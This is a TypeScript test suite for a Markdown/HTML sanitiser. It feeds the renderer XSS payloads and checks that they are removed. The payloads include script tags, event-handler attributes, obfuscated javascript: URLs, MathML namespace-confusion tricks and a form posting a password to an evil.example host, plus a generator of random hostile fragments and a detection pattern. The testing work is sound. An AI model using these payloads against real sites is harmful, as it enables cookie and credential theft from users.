import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderHtml, renderMarkdown } from './markdown.ts';
import { findUnsafeHtml, sanitize } from './sanitize.ts';
import { $, $$, attributeNames, courseOf, linksOf, myst, parse, recordingEnv, tagNames, text } from './testing.ts';

/**
 * The attacks a course file could carry, rendered as a notebook cell is. Each test checks that the
 * dangerous part is gone, that the harmless content around it survives, and that the author is
 * told (`render.unsafe-html`).
 */

const course = courseOf({
  'w1/w1-s1-c1-intro.md': myst('# Intro'),
  'media/chat.png': new Uint8Array([0x89, 0x50, 0x4e, 0x47]),
});

function render(source: string) {
  const { env, reports } = recordingEnv('fr');
  const html = renderMarkdown(source, env, linksOf(course).resolver('w1', env));
  return { html, doc: parse(html), codes: reports.map((r) => r.code), reports };
}

const unsafe = (codes: string[]): number => codes.filter((c) => c === 'render.unsafe-html').length;

describe('sanitiser: attacks', () => {
  it('removes inline <script> and its content, keeps the sentence', () => {
    const { html, doc, codes } = render('Avant <script>alert("x")</script> après');
    expect(html).not.toMatch(/<script|alert/i);
    expect(text($(doc, 'p'))).toBe('Avant  après');
    expect(unsafe(codes)).toBeGreaterThan(0);
  });

  it('removes a <script> block, keeps the next paragraph', () => {
    const { html, doc, codes } = render('<script>\nfetch("/api/me")\n</script>\n\nSuite du texte.');
    expect(html).not.toMatch(/<script|fetch/i);
    expect($$(doc, 'p').map(text)).toEqual(['Suite du texte.']);
    expect(unsafe(codes)).toBeGreaterThan(0);
  });

  it('removes onerror from <img>, keeps the image', () => {
    const { doc, reports } = render('Image <img src="../media/chat.png" onerror="alert(1)" alt="chat"> ici');
    expect($(doc, 'img').attribs).toEqual({ src: '/c/file/media/chat.png', alt: 'chat', loading: 'lazy' });
    expect(reports).toEqual([
      {
        code: 'render.unsafe-html',
        message: expect.stringContaining('event handler on <img>'),
        needle: expect.any(String),
      },
    ]);
  });

  it('removes event handlers whatever their case (OnClIcK)', () => {
    const { html, doc, codes } = render('<b OnClIcK="alert(1)">gras</b> et <i oNmOuSeOvEr=alert(2)>italique</i>');
    expect(attributeNames(html)).toEqual([]);
    expect(html).not.toContain('alert');
    expect([text($(doc, 'b')), text($(doc, 'i'))]).toEqual(['gras', 'italique']);
    expect(unsafe(codes)).toBe(2);
  });

  it('removes an event handler written after a slash (<img/onerror>) in raw HTML', () => {
    // Markdown does not take `<img/onerror…>` for a tag (it shows it as text); quiz text and outputs are raw HTML.
    const { env, reports } = recordingEnv();
    const html = renderHtml(
      '<img/onerror=alert(2) src="../media/chat.png" alt="c">',
      env,
      linksOf(course).resolver('w1', env),
    );
    expect($(html, 'img').attribs).toEqual({ src: '/c/file/media/chat.png', alt: 'c', loading: 'lazy' });
    expect(reports.map((r) => r.message)).toEqual(['Removed an event handler on <img> from this HTML.']);
  });

  it('removes javascript: hrefs from <a>, keeps the link text', () => {
    const { doc, codes } = render('<a href="javascript:alert(document.cookie)">cliquez</a>');
    expect($(doc, 'a').attribs).toEqual({});
    expect(text($(doc, 'a'))).toBe('cliquez');
    expect(codes).toContain('render.unsafe-html');
  });

  it('does not make a link of [x](javascript:alert(1)), in any case', () => {
    const { doc, html } = render('[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](vbscript:msgbox)');
    expect($$(doc, 'a')).toHaveLength(0);
    expect(text($(doc, 'p'))).toContain('[x]');
    expect(html).not.toMatch(/href=/);
  });

  it('sees through entities and whitespace: jav&#x61;script:, &#106;avascript:, java&#9;script:', () => {
    const { doc, codes } = render(
      [
        '<a href="jav&#x61;script:alert(1)">un</a>',
        '<a href="&#106;avascript:alert(1)">deux</a>',
        '<a href="java&#9;script:alert(1)">trois</a>',
        '<a href=" javascript:alert(1)">quatre</a>',
        '[cinq](jav&#x61;script:alert(1))',
      ].join(' '),
    );
    expect($$(doc, 'a').map((a) => [text(a), a.attribs['href']])).toEqual([
      ['un', undefined],
      ['deux', undefined],
      ['trois', undefined],
      ['quatre', undefined],
    ]);
    expect(text($(doc, 'p'))).toContain('[cinq]');
    expect(unsafe(codes)).toBe(4);
  });

  it('removes <iframe>, <object>, <embed>, keeps the text around', () => {
    const { html, doc, codes } = render(
      'Vidéo : <iframe src="https://evil.example/"></iframe> objet <object data="x.swf"></object><embed src="x.swf"> fin',
    );
    expect(tagNames(html)).toEqual(['p']);
    expect(text($(doc, 'p'))).toBe('Vidéo :  objet  fin');
    expect(unsafe(codes)).toBeGreaterThanOrEqual(3);
  });

  it('removes forms and their controls', () => {
    const { html, codes } = render(
      '<form action="https://evil.example/steal"><input name="password"><button>Envoyer</button></form>\n\nTexte.',
    );
    expect(tagNames(html)).toEqual(['p']);
    expect(html).not.toMatch(/action=|password/);
    expect(html).toContain('Texte.');
    expect(codes.filter((c) => c === 'render.unsafe-html')).toHaveLength(3);
  });

  it('removes <style> with its rules', () => {
    const { html, codes } = render('<style>body { display: none }</style>\n\nVisible.');
    expect(html).not.toMatch(/<style|display/);
    expect(text(parse(html)).trim()).toBe('Visible.');
    expect(codes).toContain('render.unsafe-html');
  });

  it('removes <svg> with a <script> inside', () => {
    const { html, codes } = render('Dessin <svg onload="alert(1)"><script>alert(2)</script><circle r="5"/></svg> fin');
    expect(html).not.toMatch(/<svg|<script|<circle|alert/i);
    expect(text($(html, 'p'))).toBe('Dessin  fin');
    expect(codes).toContain('render.unsafe-html');
  });

  it('removes <math> namespace-confusion tricks', () => {
    const { html, codes } = render(
      'Avant <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> <math href="javascript:alert(2)">m</math> après',
    );
    expect(html).not.toMatch(/onerror|javascript|<math|<style|<mglyph/i);
    expect(text(parse(html))).toMatch(/^Avant .*m après/s);
    expect(codes).toContain('render.unsafe-html');
  });

  it('keeps only alignment, colour and font styles: no position:fixed overlay, no url()', () => {
    const { doc } = render(
      '<p style="position:fixed;top:0;left:0;width:100%;z-index:9999;text-align:center;color:red;background:url(https://evil.example/x.png)">Stylé</p>',
    );
    expect($(doc, 'p').attribs['style']).toBe('text-align:center;color:red');
    expect(text($(doc, 'p'))).toBe('Stylé');
    const colours = render('<span style="color: expression(alert(1)); background-color: #ff0">c</span>').doc;
    expect($(colours, 'span').attribs['style']).toBe('background-color:#ff0');
  });

  it('removes data:text/html links, keeps the text', () => {
    const { doc, codes } = render('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">données</a>');
    expect($(doc, 'a').attribs).toEqual({});
    expect(text($(doc, 'a'))).toBe('données');
    expect(codes).toContain('render.unsafe-html');
  });

  it('keeps data: images but not data: documents in <img>', () => {
    const { doc, codes } = render(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok"> <img src="data:text/html,<script>alert(1)</script>" alt="non">',
    );
    expect($$(doc, 'img').map((i) => [i.attribs['alt'], i.attribs['src']])).toEqual([
      ['ok', 'data:image/png;base64,iVBORw0KGgo='],
      ['non', undefined],
    ]);
    expect(unsafe(codes)).toBeGreaterThan(0);
  });

  it('removes protocol-relative //evil image sources', () => {
    const { doc } = render('<img src="//evil.example/track.png" alt="pixel"> ![md](//evil.example/x.png)');
    expect($$(doc, 'img').map((i) => [i.attribs['alt'], i.attribs['src']])).toEqual([
      ['pixel', undefined],
      ['md', undefined],
    ]);
  });

  it('removes <base>, <meta>, <link>, target and srcset', () => {
    const { html } = render(
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">\n\n<a href="https://example.com" target="_blank">ok</a> <img src="../media/chat.png" srcset="https://evil.example/x.png 2x" alt="s">',
    );
    expect(tagNames(html).sort()).toEqual(['a', 'img', 'p']);
    expect(html).not.toMatch(/target=|srcset=|evil/);
    expect($(html, 'a').attribs).toEqual({ href: 'https://example.com', rel: 'noopener noreferrer' });
  });

  it('removes ontoggle from <details>, keeps the folding', () => {
    const { doc } = render('<details open ontoggle="alert(1)"><summary>Plus</summary>Détail</details>');
    expect($(doc, 'details').attribs).toEqual({ open: '' });
    expect(text($(doc, 'summary'))).toBe('Plus');
  });

  it('closes what a cell leaves open and drops stray closing tags', () => {
    const { html } = render('<div><em>non fermé\n\n</div></div></details></section>fin');
    const doc = parse(`<main>${html}</main><footer>pied</footer>`);
    // The fragment cannot reach outside its container: the footer stays a sibling of main.
    expect($(doc, 'main').parent?.type).toBe('root');
    expect($(doc, 'footer').parent?.type).toBe('root');
    expect(html.match(/<div/g)?.length).toBe(html.match(/<\/div>/g)?.length);
  });
});

describe('findUnsafeHtml', () => {
  it('names what the sanitiser removes, once each', () => {
    expect(
      findUnsafeHtml(
        '<script>x</script><iframe></iframe><b onclick="x">b</b><a href="javascript:x">a</a><a href="https://ok">ok</a><img src="data:image/png;base64,AA">',
      ),
    ).toEqual(['<script>', '<iframe>', 'an event handler on <b>', 'a script URL on <a>']);
  });

  it('finds nothing in the course’s ordinary HTML', () => {
    expect(
      findUnsafeHtml(
        '<div class="licence"><span>Licence</span></div><em>x</em><a href="https://docs.python.org">doc</a><img src="media/x.png"><br/>',
      ),
    ).toEqual([]);
  });

  it('survives absurd character references', () => {
    expect(findUnsafeHtml('<a href="&#99999999999999999999;&#x0;javascript:x">a</a>')).toEqual([]);
    expect(findUnsafeHtml('<a href="&#x6A;avascript:x">a</a>')).toEqual(['a script URL on <a>']);
  });
});

describe('sanitize', () => {
  it('passes URLs through the resolver and applies what it says', () => {
    const seen: [string, string][] = [];
    const html = sanitize(
      '<a href="data/x.txt">x</a> <a href="https://e.org" download>e</a> <img src="m.png">',
      (url, tag) => {
        seen.push([url, tag]);
        if (url === 'data/x.txt') return { url: '/files/x.txt', download: true };
        if (url === 'm.png') return { url: '/files/m.png' };
        return { url, external: true };
      },
    );
    expect(seen).toEqual([
      ['data/x.txt', 'a'],
      ['https://e.org', 'a'],
      ['m.png', 'img'],
    ]);
    expect($$(html, 'a').map((a) => a.attribs)).toEqual([
      { href: '/files/x.txt', download: '' },
      { href: 'https://e.org', rel: 'noopener noreferrer' },
    ]);
    expect($(html, 'img').attribs).toEqual({ src: '/files/m.png', loading: 'lazy', alt: '' });
  });
});

/** What an attacker would notice: a script element, an event handler, a script URL in an attribute. */
function dangers(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('<script');
  const walk = (nodes: ReturnType<typeof parse>['children']): void => {
    for (const node of nodes) {
      if (!('attribs' in node)) continue;
      if (['script', 'iframe', 'object', 'embed', 'style', 'form', 'svg', 'math', 'base'].includes(node.name)) {
        // KaTeX's own MathML is trusted; anything else is not.
        if (!(
          node.name === 'math' &&
          node.parent &&
          'attribs' in node.parent &&
          node.parent.attribs['class'] === 'katex-mathml'
        )) {
          found.push(`<${node.name}>`);
        }
      }
      for (const [name, value] of Object.entries(node.attribs)) {
        if (/^on/i.test(name)) found.push(`${name}=`);
        const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (/^(href|src|action|formaction|xlink:href)$/i.test(name) && /^(javascript|vbscript|data:text)/.test(url)) {
          found.push(`${name}=${value}`);
        }
      }
      walk(node.children);
    }
  };
  walk(parse(html).children);
  return found;
}

describe('renderMarkdown never lets a script through (property)', () => {
  const fragments = fc.constantFrom(
    '<script>alert(1)</script>',
    '<script',
    '</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" ',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">',
    '<a href="jav&#x61;script:alert(1)">',
    '<a href="&#106;avascript:alert(1)">',
    '<a href="java\tscript:alert(1)">',
    '<a href="data:text/html,<script>alert(1)</script>">',
    '<a href=',
    '"',
    "'",
    '>',
    '<',
    '</a>',
    '<div>',
    '</div>',
    '<p ',
    ' onclick=alert(1)',
    ' OnMouseOver="alert(1)"',
    ' style="position:fixed;background:url(javascript:alert(1))"',
    ' href=javascript:alert(1)',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<style>',
    '<details open ontoggle=alert(1)>',
    '&#x61;',
    '&#106;',
    '&lt;script&gt;',
    '&#xE002;0&#xE003;',
    '&#xE000;quiz.hint&#xE001;',
    '\uE0020\uE003',
    '[x](javascript:alert(1))',
    '[x](',
    'javascript:alert(1)',
    ')',
    '![',
    '](x.png)',
    '<https://example.com>',
    '<javascript:alert(1)>',
    '$',
    '$$',
    '\\',
    '`',
    '```',
    '```{note}',
    '```{image} javascript:alert(1)',
    ':::{tip}',
    ':::',
    '{download}`',
    '{math}`',
    ':class: dropdown',
    '\n',
    '\n\n',
    '    ',
    '| a | b |\n|---|---|\n',
    '# ',
    '> ',
    '- ',
  );
  // Whole tags too, allowed and forbidden, with hostile attributes in random case and quoting.
  const attribute = fc.oneof(
    fc
      .tuple(
        fc.constantFrom('onclick', 'onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin'),
        fc.constantFrom('alert(1)', '"alert(1)"', "'alert(1)'", ''),
      )
      .map(([name, value]) => ` ${name}${value === '' ? '' : `=${value}`}`),
    fc
      .tuple(
        fc.constantFrom('href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'background', 'srcset'),
        fc.constantFrom(
          'javascript:alert(1)',
          'JaVaScRiPt:alert(1)',
          'jav&#x61;script:alert(1)',
          '&#x6A;&#x61;vascript:alert(1)',
          'java&#x09;script:alert(1)',
          ' javascript:alert(1)',
          'vbscript:msgbox(1)',
          'data:text/html,<script>alert(1)</script>',
          'data:image/svg+xml;base64,PHN2Zz4=',
          '//evil.example/x',
          'media/x.png',
        ),
        fc.constantFrom('"', "'", ''),
      )
      .map(([name, value, q]) => ` ${name}=${q}${value}${q}`),
    fc.constantFrom(' style="color:red;position:fixed"', ' class="licence"', ' id="x"', ' open', ' /'),
  );
  const tag = fc
    .tuple(
      fc.constantFrom(
        'a',
        'img',
        'div',
        'span',
        'p',
        'b',
        'details',
        'svg',
        'math',
        'iframe',
        'form',
        'input',
        'video',
        'body',
        'x-y',
      ),
      fc.array(attribute, { maxLength: 3 }),
      fc.constantFrom('>', '/>', ''),
      fc.boolean(),
    )
    .map(([name, attrs, end, upper]) => `<${upper ? name.toUpperCase() : name}${attrs.join('')}${end}`);
  const input = fc
    .array(
      fc.oneof(
        { weight: 3, arbitrary: fragments },
        { weight: 2, arbitrary: tag },
        { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
      ),
      { maxLength: 30 },
    )
    .map((parts) => parts.join(''));

  it('never throws, never outputs <script, on…= attributes or script URLs', () => {
    const resolver = (env: ReturnType<typeof recordingEnv>['env']) => linksOf(course).resolver('w1', env);
    fc.assert(
      fc.property(input, (source) => {
        const { env } = recordingEnv();
        const html = renderMarkdown(source, env, resolver(env));
        expect(dangers(html)).toEqual([]);
        expect(html).not.toMatch(/[\uE000-\uE003]/);
      }),
      { numRuns: 1000 },
    );
  });
});
